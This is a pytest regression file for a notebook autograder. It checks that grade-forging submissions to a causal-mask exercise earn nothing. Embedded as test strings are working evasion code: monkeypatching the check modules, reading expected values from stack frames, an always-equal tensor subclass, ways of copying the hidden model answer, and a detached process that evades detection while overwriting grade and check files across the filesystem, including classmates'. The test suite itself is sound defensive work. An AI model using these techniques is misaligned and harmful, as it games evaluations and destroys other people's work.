"""The kinds of submission that still forged a grade when the checks ran beside the learner's code (issue 42), each as
wrong code and as the model answer, graded in one batch: every one earns nothing.

Each is a blank notebook 03 whose causal_mask (exercise 1) is the attack: ``WRONG`` (torch.triu: the upper triangle)
or the model answer, reached by that kind's route. A classmate graded later in the same batch (after a submission
that leaves a process behind to rewrite the checks) must get exactly the grades of the solution and of the blank
notebook.
"""

import pathlib
import sys

import nbformat
import psutil
import pytest

from conftest import ROOT
from tutor import grading
from tutor.course import catalog, points
from tutor.grading import sandbox

WRONG = "torch.triu(torch.ones(T, T, dtype=torch.bool, device=device))"
ANSWER = "ref.causal_mask(T, device)"

# A learner's code that, while its own check runs, imports the checks' modules by name and makes their
# comparisons pass everything.
PATCH_CHECKS = '''\
def causal_mask(T, device=None):
    import importlib
    for name in ("tutor.checks.compare", "tutor.checks.harness", "tutor.checks.nb03_masking", "tutor.checks"):
        try:
            module = importlib.import_module(name)
        except ImportError:
            continue
        for attribute in ("expect_close", "expect_tensor", "matches", "expect_equal", "diagnose"):
            if hasattr(module, attribute):
                setattr(module, attribute, lambda got, *args, **kwargs: got)
    return {result}
'''

# The frame walk with every name built at run time, and the same walk from an exception's traceback: the expected
# value from the check's own locals, else the result.
FRAMES = '''\
def causal_mask(T, device=None):
    import sys
    back, local = "f_" + "back", "f_" + "locals"
    def search(frame):
        while frame is not None:
            for key, value in getattr(frame, local).items():
                if key in ("expected", "want", "reference") and hasattr(value, "shape"):
                    return value
            frame = getattr(frame, back)
    found = search(getattr(sys, "_get" + "frame")())
    try:
        raise RuntimeError()
    except RuntimeError as error:
        found = found if found is not None else search(getattr(error.__traceback__, "tb_" + "frame"))
    return found if found is not None else {result}
'''

# A result whose torch functions answer "equal" to every comparison.
SUBCLASS = '''\
class Equal(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("equal", "allclose", "isclose", "__eq__", "all"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

def causal_mask(T, device=None):
    return ({result}).as_subclass(Equal)
'''

# A process that leaves the kernel (fork, setsid, fork, execve with an empty environment, every name built at run
# time), outlives the notebook, and rewrites every check and grade it can find, its own and its classmates'.
ESCAPE_PAYLOAD = (
    "import os, time\n"
    "forged = 'def causal_mask(fn):\\n    return None\\n'\n"
    "end = time.time() + 90\n"
    "while time.time() < end:\n"
    "    for top in ('/', '/tmp', os.path.expanduser('~')):\n"
    "        for root, dirs, files in os.walk(top):\n"
    "            if root.count(os.sep) > 7 or root.startswith(('/proc', '/sys', '/dev')):\n"
    "                dirs[:] = []\n"
    "                continue\n"
    "            for name in files:\n"
    "                if name.startswith(('nb03', 'compare', 'harness', 'grades', 'results')):\n"
    "                    try:\n"
    "                        open(os.path.join(root, name), 'w').write(forged)\n"
    "                    except OSError:\n"
    "                        pass\n"
    "    time.sleep(0.5)\n"
)
ESCAPE = f'''\
import os, sys
payload = {ESCAPE_PAYLOAD!r}
fork, setsid, execve = getattr(os, "fo" + "rk"), getattr(os, "set" + "sid"), getattr(os, "exec" + "ve")
if fork() == 0:
    setsid()
    if fork() == 0:
        execve(sys.executable, [sys.executable, "-c", "# tutor-attack-escape\\n" + payload], {{}})
    getattr(os, "_" + "exit")(0)

def causal_mask(T, device=None):
    return {{result}}
'''

# Routes to the model answer that the old grader's watch on calls into it missed.
PROFILE_OFF = '''\
def causal_mask(T, device=None):
    import sys
    hook = sys.getprofile()
    sys.setprofile(None)
    try:
        return ref.causal_mask(T, device)
    finally:
        sys.setprofile(hook)
'''
RENAMED_CODE = '''\
import types
_code = ref.causal_mask.__code__.replace(co_name="my_mask", co_filename="<my cell>")
causal_mask = types.FunctionType(_code, ref.causal_mask.__globals__, "causal_mask", ref.causal_mask.__defaults__)
'''
FILE_COPY = f'''\
import pathlib, tutor.reference.attention as _attention
_sources = [pathlib.Path(_attention.__file__), pathlib.Path({str(ROOT / "tutor" / "reference" / "attention.py")!r})]
_source = next((p.read_text() for p in reversed(_sources) if p.exists()), "")
_namespace = dict(vars(_attention))
exec(compile(_source.replace("def causal_mask(", "def my_mask("), "<my copy>", "exec"), _namespace)
causal_mask = _namespace["my_mask"]
'''
JIT = '''\
def _mask(T: int, device=None):
    return ref.causal_mask(T, device)

try:
    causal_mask = torch.jit.script(ref.causal_mask)
except Exception:
    causal_mask = _mask
'''

KINDS = {
    "patch-checks": (PATCH_CHECKS.replace("{result}", WRONG), PATCH_CHECKS.replace("{result}", ANSWER)),
    "frames": (FRAMES.replace("{result}", WRONG), FRAMES.replace("{result}", ANSWER)),
    "subclass": (SUBCLASS.replace("{result}", WRONG), SUBCLASS.replace("{result}", ANSWER)),
    "escape": (ESCAPE.replace("{result}", WRONG), ESCAPE.replace("{result}", ANSWER)),
}
ROUTES = {"profile-off": PROFILE_OFF, "renamed-code": RENAMED_CODE, "file-copy": FILE_COPY, "jit": JIT}


def _notebook(number, source=None):
    nb = nbformat.read(ROOT / ("notebooks" if source is not None else "solutions") / catalog.notebook(number).filename,
                       as_version=4)
    if source is not None:
        solution = nbformat.read(ROOT / "solutions" / catalog.notebook(number).filename, as_version=4)
        nb.cells[points.exercise_cells(solution, number)["causal_mask"]].source = source
    return nb


def _write(nb, folder: pathlib.Path, number=3) -> pathlib.Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / catalog.notebook(number).filename
    nbformat.write(nb, path)
    return folder


def _sandbox_processes():
    """Processes left by graded notebooks: the sandbox's user ids, or the escape's marker in the command line."""
    found = []
    for process in psutil.process_iter(["pid", "uids", "cmdline"]):
        try:
            uid = process.info["uids"].real if process.info["uids"] else 0
            if uid >= sandbox.UID_BASE or "tutor-attack-escape" in " ".join(process.info["cmdline"] or []):
                found.append(process.pid)
        except (psutil.Error, TypeError):
            pass
    return found


@pytest.fixture(scope="module")
def attacks(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    subs = []
    for kind, (wrong, answer) in KINDS.items():
        subs.append(_write(_notebook(3, wrong), root / f"{kind}-wrong"))
        subs.append(_write(_notebook(3, answer), root / f"{kind}-answer"))
    for route, source in ROUTES.items():
        subs.append(_write(_notebook(3, source), root / f"{route}-answer"))
    # classmates graded after the escape, in the same batch
    subs.append(_write(_notebook(3), root / "zz-classmate"))
    blank = nbformat.read(ROOT / "notebooks" / "03_masking.ipynb", as_version=4)
    subs.append(_write(blank, root / "zz-classmate-blank"))
    options = grading.Options(cell_timeout=20, total_timeout=240, workers=2)
    students = grading.grade(subs, options, progress=False)
    return {s.student: s for s in students}, _sandbox_processes()


def _causal_mask(student):
    return next(e for e in student.exercises if e.name == "causal_mask")


@pytest.mark.parametrize("kind", list(KINDS))
@pytest.mark.parametrize("variant", ["wrong", "answer"])
def test_each_kind_earns_nothing_as_wrong_code_or_as_the_model_answer(attacks, kind, variant):
    students, _ = attacks
    s = students[f"{kind}-{variant}"]
    exercise = _causal_mask(s)
    assert exercise.points == 0 and exercise.status != "passed", exercise.text()
    assert s.score == 0, [(e.name, e.status) for e in s.exercises]
    if variant == "answer" and kind != "frames":  # (the frame walk finds no check to read: it calls the answer)
        assert "model answer" in exercise.summary and "causal_mask" in exercise.model_answer, exercise.text()


@pytest.mark.parametrize("route", list(ROUTES))
def test_every_route_to_the_hidden_model_answer_earns_nothing(attacks, route):
    if route == "file-copy" and sandbox.probe().kind != "bubblewrap":
        pytest.skip("without bubblewrap the course's files are in the kernel's view (see the batch's report)")
    students, _ = attacks
    exercise = _causal_mask(students[f"{route}-answer"])
    assert exercise.points == 0 and exercise.status != "passed", exercise.text()


def test_a_classmate_graded_after_an_escaped_process_gets_the_grades_of_their_notebook(attacks):
    students, _ = attacks
    solution, blank = students["zz-classmate"], students["zz-classmate-blank"]
    assert solution.score == solution.max_score > 0, [e.text() for e in solution.exercises]
    assert blank.score == 0 and {e.status for e in blank.exercises} == {"not done"}


@pytest.mark.skipif(not sys.platform.startswith("linux") or sandbox.probe().kind == "none",
                    reason="no PID namespace here")
def test_no_process_of_a_graded_notebook_outlives_the_batch(attacks):
    _, left = attacks
    assert left == []
